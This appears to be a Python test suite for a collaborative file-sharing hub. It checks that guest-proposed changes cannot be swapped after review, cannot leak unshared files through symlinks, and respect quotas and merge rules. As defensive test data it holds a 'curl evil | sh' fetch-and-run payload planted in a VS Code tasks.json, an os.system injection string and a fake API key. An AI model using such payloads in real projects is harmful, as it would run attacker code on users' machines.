"""Attacks on approvals that merge (issue 17, part 2): a guest cannot swap what the host
reviewed under the same id, the merge view keeps to the sharing policy, a kept edit always
unpacks."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from letswork.hub import merges, merging
from letswork.shared.errors import ErrorCode, OpError
from letswork.shared.limits import MAX_MERGE_HUNKS, Limits
from tests.support.hubs import HubFixture, make_project, running_hub

TEXT = "".join(f"line {i}\n" for i in range(1, 11))
SECRET = "API_KEY=sk-live-do-not-share\n"


async def test_a_pending_change_the_host_reviewed_cannot_be_swapped_under_its_id(
    hub: HubFixture,
) -> None:
    (hub.project / "code.py").write_text(TEXT, encoding="utf-8")
    guest = await hub.guest("mallory")
    host = await hub.host()
    proposed = await guest.call("write_file", path="code.py", content=TEXT + "harmless\n")
    cid = proposed["change"]["id"]
    reviewed = await host.call("get_change", id=cid)
    assert "+harmless" in reviewed["change"]["diff"]
    with pytest.raises(OpError) as err:  # after the host's review, before its approval
        await guest.call("update_change", id=cid, content=TEXT + "import os; os.system('x')\n")
    assert err.value.code == ErrorCode.INVALID
    await host.call("approve_change", id=cid)
    assert (hub.project / "code.py").read_text() == TEXT + "harmless\n"


async def test_the_merge_view_shows_a_guest_no_file_it_may_not_read(hub: HubFixture) -> None:
    (hub.project / "code.py").write_text(TEXT, encoding="utf-8")
    (hub.project / ".env").write_text(SECRET, encoding="utf-8")
    guest = await hub.guest("mallory")
    with pytest.raises(OpError) as err:
        await guest.call("read_file", path=".env")
    assert err.value.code == ErrorCode.NOT_SHARED
    proposed = await guest.call(
        "edit_file", path="code.py", old_string="line 5\n", new_string="guest 5\n"
    )
    # The path now leads to a file guests do not see (the host, or a local process).
    (hub.project / "code.py").unlink()
    (hub.project / "code.py").symlink_to(".env")
    with pytest.raises(OpError) as err:
        await guest.call("get_change", id=proposed["change"]["id"], merge=True)
    assert err.value.code == ErrorCode.NOT_SHARED
    assert "sk-live" not in err.value.message
    view = await guest.call("get_change", id=proposed["change"]["id"])  # without the view
    assert "sk-live" not in json.dumps(view)


def test_a_kept_edit_always_unpacks() -> None:
    # new_string of 1.5 M characters of 3 UTF-8 bytes: 9 MB as escaped JSON, past the bound.
    edit = merging.Edit("line 5\n", "\u4e2d" * 1_500_000, False)
    data = merging.merge_data("edit", TEXT, edit)
    assert data is not None and data.base_z is not None
    if data.edit_z is not None:
        assert merging.unpack_edit(data.edit_z) == edit


async def test_a_conflict_resubmitted_through_a_symlinked_sensitive_folder_stays_marked(
    hub: HubFixture,
) -> None:
    (hub.project / "config" / "vscode").mkdir(parents=True)
    (hub.project / "config" / "vscode" / "tasks.json").write_text("{}\n", encoding="utf-8")
    (hub.project / ".vscode").symlink_to("config/vscode")  # the host's own layout
    guest = await hub.guest("mallory")
    host = await hub.host()
    path = "config/vscode/tasks.json"
    proposed = await guest.call("write_file", path=path, content='{"a": 1}\n')
    cid = proposed["change"]["id"]
    assert proposed["change"]["sensitive"]
    (hub.project / path).write_text('{"host": 1}\n', encoding="utf-8")
    await host.call("approve_change", id=cid)  # a conflict
    updated = await guest.call("update_change", id=cid, content='{"run": "curl evil | sh"}\n')
    assert updated["change"]["sensitive"]
    [queued] = (await host.call("pending_changes"))["changes"]
    assert queued["sensitive"] == proposed["change"]["sensitive"]


async def test_a_merge_approved_while_a_local_process_writes_is_shown_again(
    hub: HubFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = hub.project / "code.py"
    code.write_text(TEXT, encoding="utf-8")
    guest = await hub.guest("alice")
    host = await hub.host()
    proposed = await guest.call("write_file", path="code.py", content=TEXT.replace("9\n", "G\n"))
    cid = proposed["change"]["id"]
    first = TEXT.replace("line 2\n", "H\n")
    code.write_text(first, encoding="utf-8")
    shown = (await host.call("approve_change", id=cid, merge=True))["merge"]
    # A local process makes the proposal's own change between the approval's hash of the
    # file and the merge's read of it: the same merged text, against another file.
    read_now = merges._read_now

    def racing(*args: Any, **kwargs: Any) -> Any:
        code.write_text(first.replace("9\n", "G\n"), encoding="utf-8")
        return read_now(*args, **kwargs)

    monkeypatch.setattr(merges, "_read_now", racing)
    again = await host.call(
        "approve_change",
        id=cid,
        merge=True,
        current_sha256=shown["current_sha256"],
        merged_sha256=shown["merged_sha256"],
    )
    assert again["change"]["status"] == "pending"
    assert again["merge"]["current_sha256"] != shown["current_sha256"]
    row = hub.hub.core.store.get_change(cid)
    assert row is not None and row.content == TEXT.replace("9\n", "G\n").encode()


async def test_conflicts_resubmitted_at_once_stay_within_the_pending_count_cap(
    tmp_path: Path,
) -> None:
    project = make_project(tmp_path / "project")
    async with running_hub(project, limits=Limits(max_pending_per_guest=1)) as fx:
        guest = await fx.guest("mallory")
        host = await fx.host()
        ids = []
        for name in ("a.txt", "b.txt"):
            (project / name).write_text("base\n", encoding="utf-8")
            proposed = await guest.call("write_file", path=name, content="guest\n")
            (project / name).write_text("host\n", encoding="utf-8")
            await host.call("approve_change", id=proposed["change"]["id"])  # a conflict
            ids.append(proposed["change"]["id"])
        results = await asyncio.gather(
            *(guest.call("update_change", id=cid, content="again\n") for cid in ids),
            return_exceptions=True,
        )
        refused = [r for r in results if isinstance(r, OpError)]
        assert [e.code for e in refused] == [ErrorCode.QUOTA_EXCEEDED], results
        pending = (await host.call("pending_changes"))["changes"]
        assert len(pending) == 1


async def test_a_merge_approved_after_the_file_went_back_to_the_base_writes_nothing_unseen(
    hub: HubFixture,
) -> None:
    code = hub.project / "code.py"
    code.write_text(TEXT, encoding="utf-8")
    guest = await hub.guest("alice")
    host = await hub.host()
    proposed = await guest.call("write_file", path="code.py", content=TEXT.replace("9\n", "G\n"))
    cid = proposed["change"]["id"]
    code.write_text(TEXT.replace("line 2\n", "H\n"), encoding="utf-8")
    shown = (await host.call("approve_change", id=cid, merge=True))["merge"]
    code.write_text(TEXT, encoding="utf-8")  # the host undid its edit meanwhile
    again = await host.call(
        "approve_change",
        id=cid,
        merge=True,
        current_sha256=shown["current_sha256"],
        merged_sha256=shown["merged_sha256"],
    )
    # What the call names is not what would be written: nothing is, until approved as is.
    assert again["change"]["status"] == "pending"
    assert code.read_text() == TEXT
    done = await host.call("approve_change", id=cid, merge=True)
    assert done["change"]["status"] == "applied"


async def test_a_conflict_on_a_file_guests_may_not_read_shows_the_author_none_of_it(
    hub: HubFixture,
) -> None:
    (hub.project / "code.py").write_text(TEXT, encoding="utf-8")
    (hub.project / ".env").write_text(SECRET, encoding="utf-8")
    guest = await hub.guest("mallory")
    host = await hub.host()
    proposed = await guest.call(
        "edit_file", path="code.py", old_string="line 5\n", new_string="guest 5\n"
    )
    cid = proposed["change"]["id"]
    (hub.project / "code.py").unlink()
    (hub.project / "code.py").symlink_to(".env")  # now leads to a file guests do not see
    result = await host.call("approve_change", id=cid, merge=True)
    assert result["change"]["status"] == "conflict"
    event = await guest.wait_event("change_decided")
    assert "sk-live" not in json.dumps(event.data)
    assert "sk-live" not in json.dumps(await guest.call("get_change", id=cid))


@pytest.mark.parametrize(
    ("host_text", "outcome"),
    [
        ("\ufeff" + TEXT, "merged"),  # a BOM added: a change of line 1
        (TEXT.replace("\n", "\r\n"), "conflict"),  # every line changed
    ],
)
async def test_line_endings_and_bom_merge_or_conflict_never_mix(
    hub: HubFixture, host_text: str, outcome: str
) -> None:
    code = hub.project / "code.py"
    code.write_text(TEXT, encoding="utf-8")
    guest = await hub.guest("alice")
    host = await hub.host()
    proposed = await guest.call("write_file", path="code.py", content=TEXT.replace("9\n", "G\n"))
    code.write_bytes(host_text.encode("utf-8"))
    result = await host.call("approve_change", id=proposed["change"]["id"], merge=True)
    assert result["merge"]["outcome"] == outcome
    if outcome == "merged":
        done = await host.call(
            "approve_change",
            id=proposed["change"]["id"],
            merge=True,
            current_sha256=result["merge"]["current_sha256"],
            merged_sha256=result["merge"]["merged_sha256"],
        )
        assert done["change"]["status"] == "applied"
        assert code.read_bytes().decode("utf-8") == host_text.replace("9\n", "G\n")
    else:
        assert code.read_bytes() == host_text.encode("utf-8")


async def test_a_file_that_became_binary_or_a_symlink_is_not_merged_into(
    hub: HubFixture,
) -> None:
    code = hub.project / "code.py"
    code.write_text(TEXT, encoding="utf-8")
    (hub.project / "other.py").write_text(TEXT.replace("line 2\n", "H\n"), encoding="utf-8")
    guest = await hub.guest("alice")
    host = await hub.host()
    first = await guest.call("write_file", path="code.py", content=TEXT.replace("9\n", "G\n"))
    code.write_bytes(b"\x00binary\n")
    result = await host.call("approve_change", id=first["change"]["id"], merge=True)
    assert result["change"]["status"] == "conflict"
    assert code.read_bytes() == b"\x00binary\n"
    code.write_text(TEXT, encoding="utf-8")
    second = await guest.call("write_file", path="code.py", content=TEXT.replace("9\n", "G\n"))
    code.unlink()
    code.symlink_to("other.py")
    shown = await host.call("approve_change", id=second["change"]["id"], merge=True)
    if shown["change"]["status"] == "pending" and shown["merge"].get("merged_sha256"):
        with pytest.raises(OpError):
            await host.call(
                "approve_change",
                id=second["change"]["id"],
                merge=True,
                current_sha256=shown["merge"]["current_sha256"],
                merged_sha256=shown["merge"]["merged_sha256"],
            )
    assert code.is_symlink()
    assert (hub.project / "other.py").read_text() == TEXT.replace("line 2\n", "H\n")


async def test_a_conflict_of_many_long_hunks_fits_a_reply(hub: HubFixture) -> None:
    # 50 conflicts of 66,000 characters a side: the hunks alone made a 10 MB reply, over the
    # 4 MiB frame, so the host's approve and the author's merge view both failed.
    base = "".join(f"sep {i}\n" + "a" * 66_000 + "\n" for i in range(MAX_MERGE_HUNKS))
    code = hub.project / "big.txt"
    code.write_text(base, encoding="utf-8")
    guest = await hub.guest("mallory")
    host = await hub.host()
    proposed = await guest.call(
        "edit_file", path="big.txt", old_string="a", new_string="c", replace_all=True
    )
    cid = proposed["change"]["id"]
    code.write_text(base.replace("a", "b"), encoding="utf-8")
    result = await host.call("approve_change", id=cid, merge=True)
    assert result["change"]["status"] == "conflict"
    assert len(result["merge"]["hunks"]) == MAX_MERGE_HUNKS
    view = await guest.call("get_change", id=cid, merge=True)
    assert view["merge"]["conflicts"] == MAX_MERGE_HUNKS
    assert view["merge"]["hunks"][0]["proposed"].startswith("ccc")
